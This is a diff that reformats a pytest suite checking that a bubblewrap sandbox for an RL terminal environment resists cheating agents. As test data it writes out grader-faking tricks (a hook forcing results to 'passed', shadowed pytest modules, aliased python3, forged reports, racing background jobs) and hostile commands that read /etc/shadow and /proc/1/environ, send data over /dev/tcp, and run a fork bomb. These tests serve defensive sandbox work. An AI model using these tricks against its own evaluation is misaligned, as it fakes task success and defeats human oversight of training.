@@ -21,13 +21,24 @@ from qevolve.envs.terminal import SUBMIT, TerminalEnv
 
 if shutil.which("bwrap") is None:
     if os.environ.get("CI"):
-        pytest.fail("bubblewrap is not installed: the terminal trust-boundary tests must run in CI (scripts/setup.sh installs it)",
-                    pytrace=False)
+        pytest.fail(
+            "bubblewrap is not installed: the terminal trust-boundary tests must run in CI (scripts/setup.sh "
+            "installs it)",
+            pytrace=False,
+        )
     pytest.skip("bubblewrap is not installed (scripts/setup.sh installs it where it can)", allow_module_level=True)
 
-PASSING_REPORT = '<testsuites><testsuite name="pytest" tests="1"><testcase classname="test_outputs" name="test_answer"/></testsuite></testsuites>'
-HOOK = ["import pytest", "@pytest.hookimpl(hookwrapper=True)", "def pytest_runtest_makereport(item, call):",
-        "    outcome = yield", "    outcome.get_result().outcome = 'passed'"]
+PASSING_REPORT = (
+    '<testsuites><testsuite name="pytest" tests="1"><testcase classname="test_outputs" '
+    'name="test_answer"/></testsuite></testsuites>'
+)
+HOOK = [
+    "import pytest",
+    "@pytest.hookimpl(hookwrapper=True)",
+    "def pytest_runtest_makereport(item, call):",
+    "    outcome = yield",
+    "    outcome.get_result().outcome = 'passed'",
+]
 
 
 def lines(path: str, *content: str) -> str:
@@ -46,17 +57,21 @@ def task_root(tmp_path_factory) -> Path:
     (folder / "task.toml").write_text('[metadata]\ncategory = "text"\n[verifier]\ntimeout_sec = 10\n')
     (folder / "environment" / "notes.txt").write_text("nothing here\n")
     (folder / "solution" / "solve.sh").write_text("echo 42 > answer.txt\n")
-    (folder / "tests" / "test_outputs.py").write_text(textwrap.dedent("""
+    (folder / "tests" / "test_outputs.py").write_text(
+        textwrap.dedent("""
         from pathlib import Path
 
         def test_answer():
             assert Path("/app/answer.txt").read_text().strip() == "42"
-    """))
+    """)
+    )
     return root
 
 
 def play(task_root: Path, commands: list[str], command_timeout: float = 10.0):
-    env = TerminalEnv(str(task_root), TerminalConfig(command_timeout=command_timeout, processes=64), max_steps=len(commands) + 1)
+    env = TerminalEnv(
+        str(task_root), TerminalConfig(command_timeout=command_timeout, processes=64), max_steps=len(commands) + 1
+    )
     try:
         env.reset(env.tasks("train")[0])
         outputs = [env.step(c).observation for c in commands]
@@ -76,44 +91,73 @@ def test_an_honest_agent_wins(task_root):
 
 
 def test_a_module_shadowing_the_test_runner_does_not_run(task_root):
-    last, _, info = play(task_root, [
-        lines("pytest.py", "import sys", "sys.exit(0)"), "mkdir -p _pytest && cp pytest.py _pytest/__init__.py",
-        lines("sitecustomize.py", "import os; os._exit(0)"), lines("usercustomize.py", "import os; os._exit(0)"),
-        lines("evil.pth", "import os; os._exit(0)")])
+    last, _, info = play(
+        task_root,
+        [
+            lines("pytest.py", "import sys", "sys.exit(0)"),
+            "mkdir -p _pytest && cp pytest.py _pytest/__init__.py",
+            lines("sitecustomize.py", "import os; os._exit(0)"),
+            lines("usercustomize.py", "import os; os._exit(0)"),
+            lines("evil.pth", "import os; os._exit(0)"),
+        ],
+    )
     assert_lost(last, info)
     assert info["tests_total"] == 1, "pytest itself ran and found the real test"
 
 
 def test_conftest_ini_and_pyproject_hooks_in_app_are_not_loaded(task_root):
-    last, _, info = play(task_root, [
-        lines("conftest.py", *HOOK), lines("evil.py", *HOOK),
-        lines("pytest.ini", "[pytest]", "pythonpath = .", "addopts = -p evil"),
-        lines("pyproject.toml", "[tool.pytest.ini_options]", "pythonpath = ['.']", "addopts = '-p evil'"),
-        "cp pytest.ini tox.ini && cp pytest.ini setup.cfg && sed -i 's/\\[pytest\\]/[tool:pytest]/' setup.cfg"])
+    last, _, info = play(
+        task_root,
+        [
+            lines("conftest.py", *HOOK),
+            lines("evil.py", *HOOK),
+            lines("pytest.ini", "[pytest]", "pythonpath = .", "addopts = -p evil"),
+            lines("pyproject.toml", "[tool.pytest.ini_options]", "pythonpath = ['.']", "addopts = '-p evil'"),
+            "cp pytest.ini tox.ini && cp pytest.ini setup.cfg && sed -i 's/\\[pytest\\]/[tool:pytest]/' setup.cfg",
+        ],
+    )
     assert_lost(last, info)
 
 
 def test_the_agents_environment_variables_do_not_reach_the_validators(task_root):
-    last, _, info = play(task_root, [
-        lines("evil.py", *HOOK), "export PYTHONPATH=/app PYTEST_PLUGINS=evil PYTEST_ADDOPTS='-p evil'"])
+    last, _, info = play(
+        task_root, [lines("evil.py", *HOOK), "export PYTHONPATH=/app PYTEST_PLUGINS=evil PYTEST_ADDOPTS='-p evil'"]
+    )
     assert_lost(last, info)
 
 
 def test_shell_functions_and_aliases_do_not_reach_the_validators(task_root):
-    last, _, info = play(task_root, [
-        lines("fake.sh", f"echo '{PASSING_REPORT}' > /app/.qevolve-validators.xml"),  # where the validators' report once was
-        f"function {sys.executable} {{ bash /app/fake.sh; }}",
-        "python3() { return 0; }; pytest() { return 0; }; cd() { return 0; }; export -f python3 pytest cd",
-        "alias python3=true pytest=true; shopt -s expand_aliases"])
+    last, _, info = play(
+        task_root,
+        [
+            lines(
+                "fake.sh", f"echo '{PASSING_REPORT}' > /app/.qevolve-validators.xml"
+            ),  # where the validators' report once was
+            f"function {sys.executable} {{ bash /app/fake.sh; }}",
+            "python3() { return 0; }; pytest() { return 0; }; cd() { return 0; }; export -f python3 pytest cd",
+            "alias python3=true pytest=true; shopt -s expand_aliases",
+        ],
+    )
     assert_lost(last, info)
 
 
 def test_background_jobs_do_not_outlive_the_agent_or_race_the_validators(task_root):
     marker = f"qevolve-attack-{os.getpid()}"
-    last, _, info = play(task_root, [
-        lines("race.sh", "while true; do", f"  echo '{PASSING_REPORT}' > /app/.qevolve-validators.xml", "  echo 42 > /app/late.txt",
-              "  sleep 0.01", "done"),
-        f"(exec -a {marker} bash /app/race.sh) > /dev/null 2>&1 &", f"setsid nohup bash -c 'exec -a {marker}-2 bash /app/race.sh' > /dev/null 2>&1 & disown"])
+    last, _, info = play(
+        task_root,
+        [
+            lines(
+                "race.sh",
+                "while true; do",
+                f"  echo '{PASSING_REPORT}' > /app/.qevolve-validators.xml",
+                "  echo 42 > /app/late.txt",
+                "  sleep 0.01",
+                "done",
+            ),
+            f"(exec -a {marker} bash /app/race.sh) > /dev/null 2>&1 &",
+            f"setsid nohup bash -c 'exec -a {marker}-2 bash /app/race.sh' > /dev/null 2>&1 & disown",
+        ],
+    )
     assert_lost(last, info)
     left = [p for p in Path("/proc").iterdir() if p.name.isdigit() and marker.encode() in _cmdline(p)]
     assert not left, "the agent's background jobs were ended before the validators ran"
@@ -131,25 +175,37 @@ def test_links_and_fifos_where_the_host_once_read_or_copied_lead_nowhere(task_ro
     host.mkdir()
     (host / "keep.txt").write_text("host file\n")
     start = time.monotonic()
-    last, _, info = play(task_root, [
-        f"ln -s {host} tests && ln -s {host}/keep.txt .qevolve-validators.xml && ln -s /etc/passwd report.xml",
-        "mkfifo answer.txt fifo.xml && ln -s /app/fifo.xml /app/r.xml"])
+    last, _, info = play(
+        task_root,
+        [
+            f"ln -s {host} tests && ln -s {host}/keep.txt .qevolve-validators.xml && ln -s /etc/passwd report.xml",
+            "mkfifo answer.txt fifo.xml && ln -s /app/fifo.xml /app/r.xml",
+        ],
+    )
     assert_lost(last, info)
     assert sorted(p.name for p in host.iterdir()) == ["keep.txt"] and (host / "keep.txt").read_text() == "host file\n"
     assert time.monotonic() - start < 60, "a FIFO where a file is read blocks nothing on the host"
 
 
 def test_a_report_written_in_advance_is_never_read(task_root):
-    last, _, info = play(task_root, [
-        *(f"echo '{PASSING_REPORT}' > {p}" for p in ("report.xml", "/tmp/report.xml", "junit.xml")),
-        "mkdir -p report tests .qevolve-validators.xml && cp report.xml report/ && cp report.xml tests/ && cp report.xml .qevolve-validators.xml/"])
+    last, _, info = play(
+        task_root,
+        [
+            *(f"echo '{PASSING_REPORT}' > {p}" for p in ("report.xml", "/tmp/report.xml", "junit.xml")),
+            "mkdir -p report tests .qevolve-validators.xml && cp report.xml report/ && cp report.xml tests/ && cp "
+            "report.xml .qevolve-validators.xml/",
+        ],
+    )
     assert_lost(last, info)
     assert info["tests"] == {"test_outputs::test_answer": "failed"}, "pytest's own report of the real test was read"
 
 
 def test_host_secrets_are_not_readable_inside(task_root):
     secret = Path("/etc/shadow").read_text().splitlines()[0] if os.access("/etc/shadow", os.R_OK) else "root:"
-    last, outputs, info = play(task_root, ["cat /etc/shadow /etc/gshadow /root/.bashrc 2>&1; ls /etc 2>&1", "cat /proc/1/environ 2>&1 | tr '\\0' ' '"])
+    last, outputs, info = play(
+        task_root,
+        ["cat /etc/shadow /etc/gshadow /root/.bashrc 2>&1; ls /etc 2>&1", "cat /proc/1/environ 2>&1 | tr '\\0' ' '"],
+    )
     assert_lost(last, info)
     assert secret not in outputs[0] and "shadow" not in outputs[0].split("\n")[-1]
 
@@ -171,9 +227,15 @@ def test_a_loopback_server_on_the_host_cannot_be_reached(task_root):
     thread = threading.Thread(target=accept, daemon=True)
     thread.start()
     try:
-        last, outputs, info = play(task_root, [
-            f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'leak')\" 2>&1 | tail -1",
-            f"echo leak > /dev/tcp/127.0.0.1/{port}; echo status $?", "ls /sys/class/net 2>&1; cat /proc/net/dev | tail -n +3"])
+        last, outputs, info = play(
+            task_root,
+            [
+                f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), "
+                f"2).sendall(b'leak')\" 2>&1 | tail -1",
+                f"echo leak > /dev/tcp/127.0.0.1/{port}; echo status $?",
+                "ls /sys/class/net 2>&1; cat /proc/net/dev | tail -n +3",
+            ],
+        )
     finally:
         stop.set()
         thread.join(timeout=5)
@@ -181,7 +243,9 @@ def test_a_loopback_server_on_the_host_cannot_be_reached(task_root):
     assert_lost(last, info)
     assert accepted == [], "the sandbox reached the host's loopback"
     assert "Connection refused" in outputs[0] or "Network is unreachable" in outputs[0]
-    assert all(not line.strip() or line.split(":")[0].strip() == "lo" for line in outputs[2].splitlines()[1:] if ":" in line)
+    assert all(
+        not line.strip() or line.split(":")[0].strip() == "lo" for line in outputs[2].splitlines()[1:] if ":" in line
+    )
 
 
 def test_writes_outside_app_never_reach_the_host(task_root):
@@ -209,7 +273,9 @@ def test_after_a_fork_bomb_the_next_step_answers(tmp_path):
         session = Session("bwrap", tmp_path, Limits(processes=64))
         try:
             if not any((g / "pids.max").exists() for g in session.cgroups):
-                pytest.skip("no pids cgroup this process may make: the cap is `ulimit -u`, shared by the uid's processes")
+                pytest.skip(
+                    "no pids cgroup this process may make: the cap is `ulimit -u`, shared by the uid's processes"
+                )
             session.run(":(){ :|:& };:", timeout=3)
             started = time.monotonic()
             answer = session.run("echo still here", timeout=5)
@@ -217,7 +283,9 @@ def test_after_a_fork_bomb_the_next_step_answers(tmp_path):
             assert time.monotonic() - started < 5
         finally:
             session.close()
-    session = Session("bwrap", tmp_path, Limits(processes=64))  # background jobs that hold still are the agent's to keep
+    session = Session(
+        "bwrap", tmp_path, Limits(processes=64)
+    )  # background jobs that hold still are the agent's to keep
     try:
         session.run("sleep 60 & sleep 60 &", timeout=5)
         assert session.run("jobs -r | wc -l", timeout=5).output.strip() == "2"
@@ -226,7 +294,9 @@ def test_after_a_fork_bomb_the_next_step_answers(tmp_path):
 
 
 def test_whatever_breaks_validation_loses_instead_of_dropping_the_episode(task_root):
-    last, _, info = play(task_root, ["ln -s /nonexistent tests && chmod 000 /app"])  # the host once copied the tests to /app/tests
+    last, _, info = play(
+        task_root, ["ln -s /nonexistent tests && chmod 000 /app"]
+    )  # the host once copied the tests to /app/tests
     assert_lost(last, info)
     assert "validation_error" in info or info["tests"] == {} or info["tests_passed"] == 0
 
@@ -247,7 +317,10 @@ def test_an_episode_cannot_fill_the_hosts_disk(tmp_path, sandbox):
         env.reset(env.tasks("train")[0])
         app = env.episode_dir
         assert os.path.ismount(app)
-        big = env.step("fallocate -l 5G big; echo $?; for i in $(seq 20); do head -c 250M /dev/zero > f$i || break; done; du -sm . | cut -f1")
+        big = env.step(
+            "fallocate -l 5G big; echo $?; for i in $(seq 20); do head -c 250M /dev/zero > f$i || break; done; du "
+            "-sm . | cut -f1"
+        )
         assert "No space left on device" in big.observation and int(big.observation.split("\n")[-2]) <= 64
         assert abs(shutil.disk_usage(tempfile.gettempdir()).free - free) < 32 << 20  # the host's disk did not move
     finally:
